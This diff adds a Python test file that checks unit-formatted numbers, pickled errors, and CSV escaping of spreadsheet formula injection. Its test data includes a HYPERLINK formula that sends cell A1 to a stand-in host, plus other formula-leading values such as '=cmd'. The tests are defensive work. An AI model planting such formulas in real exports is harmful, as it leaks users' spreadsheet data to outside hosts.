@@ -1,0 +1,115 @@
+"""Texts of the registry: numbers with units, CSV, and errors, which keep their fields if they are pickled."""
+
+from __future__ import annotations
+
+import csv
+import io
+import math
+import pickle
+from dataclasses import replace
+
+import numpy as np
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from ingest.formats.fabrics import links_csv
+from ingest.formats.placements import placement_csv
+from ingest.generate.tori import torus
+from mapping.cluster import ClusterError
+from mapping.launchers.catalog import write as write_placement
+from registry import units
+from registry.csv_text import csv_text, guarded, without_guard
+from registry.errors import (
+    AlmanacError,
+    DatabaseUnavailable,
+    DisconnectedAllocation,
+    InputError,
+    InvalidValue,
+    UnknownName,
+)
+from registry.exports.catalog import write
+from registry.model import Allocation, Placement
+from tests.support.inputs import parse
+
+
+@pytest.mark.parametrize(
+    ("value", "base", "expected"),
+    [
+        (0.00033664, units.SECONDS, "337 µs"),
+        (1234.0, units.SECONDS, "1,230 s"),
+        (4.84215e9, units.BYTES, "4.84 GB"),
+        (999.6, units.BYTES, "1 kB"),
+        (0.0, units.RATE, "0 B/s"),
+        (-0.0125, units.SECONDS, "-12.5 ms"),
+        (1e-12, units.SECONDS, "0.001 ns"),
+        (61.0, units.SECONDS, "61 s"),
+        (0.999999999, units.SECONDS, "1 s"),
+        (0.9994, units.SECONDS, "999 ms"),
+        (2.5, units.HOPS, "2.5 hops"),
+    ],
+)
+def test_a_value_has_three_figures_and_no_exponent(value: float, base: str, expected: str) -> None:
+    assert units.short(value, base) == expected
+
+
+def test_numbers_without_a_unit() -> None:
+    assert units.figures(12_345.0) == "12,300"
+    assert units.figures(2.0) == "2"
+    assert units.figures(math.inf) == "inf"
+    assert units.text(0.00033664, units.SECONDS) == "336.6 µs"
+    assert units.text(0.999999999, units.SECONDS) == "1 s"
+    assert units.counted(1, "leaf", "leaves") == "1 leaf"
+    assert units.counted(2048, "leaf", "leaves") == "2,048 leaves"
+
+
+FORMULA = '=HYPERLINK("http://a.example"&A1)'
+
+
+def test_numbers_stay_numbers_commas_are_quoted_and_a_formula_is_written_as_text() -> None:
+    assert csv_text(["a", "b"], [(-1, "x,y"), (-2.5, None)]) == 'a,b\n-1,"x,y"\n-2.5,\n'
+    names = [FORMULA, "+1", "-1", "@SUM(1)", "\t=1", "\r=1"]
+    rows = list(csv.reader(io.StringIO(csv_text(["name"], [[name] for name in names]), newline="")))
+    assert rows == [["name"], *(["'" + name] for name in names)]
+
+
+@given(st.text("='+-@\tab", max_size=6))
+@example("'=a")
+def test_the_apostrophe_is_taken_off_again(text: str) -> None:
+    assert not str(guarded(text)).startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert without_guard(guarded(text)) == text
+
+
+def test_fabrics_and_placements_with_such_names_read_back() -> None:
+    names = (FORMULA, "-h1", "'=h2", "h3")
+    ring = replace(torus([4]), names=names)
+    fabric = parse(links_csv, write("csv", ring)).fabric
+    assert fabric is not None
+    assert sorted(fabric.names) == sorted(names)
+    allocation = Allocation.of(ring, names)
+    placement = Placement(host_of_rank=np.array([3, 2, 0, 1]), allocation=allocation, strategy="given")
+    text = write_placement("csv", placement, ring)
+    assert [row[1] for row in csv.reader(text.splitlines())] == ["host", "h3", "''=h2", "'" + FORMULA, "'-h1"]
+    placed = parse(placement_csv, text).placements[0]
+    assert placed.hosts == ("h3", "'=h2", FORMULA, "-h1")
+
+
+@pytest.mark.parametrize(
+    "error",
+    [
+        UnknownName("host", "nod1", ["node1"], path="file", line=3),
+        DisconnectedAllocation("a", "b"),
+        InvalidValue("Profile.bytes", "is negative"),
+        InputError("is empty", path="file", line=1, text="words"),
+        DatabaseUnavailable("bolt://x", "refused", "start it"),
+        ClusterError("tcp://x:1", "lost", "tcp://y:2"),
+    ],
+)
+def test_a_pickled_error_is_the_same(error: AlmanacError) -> None:
+    again = pickle.loads(pickle.dumps(error))
+    assert type(again) is type(error)
+    assert (str(again), again.args, vars(again)) == (str(error), error.args, vars(error))
+
+
+def test_headers_are_guarded_as_cells_are() -> None:
+    assert csv_text(["=cmd", "plain"], [["+1", "x"]]) == "'=cmd,plain\n'+1,x\n"
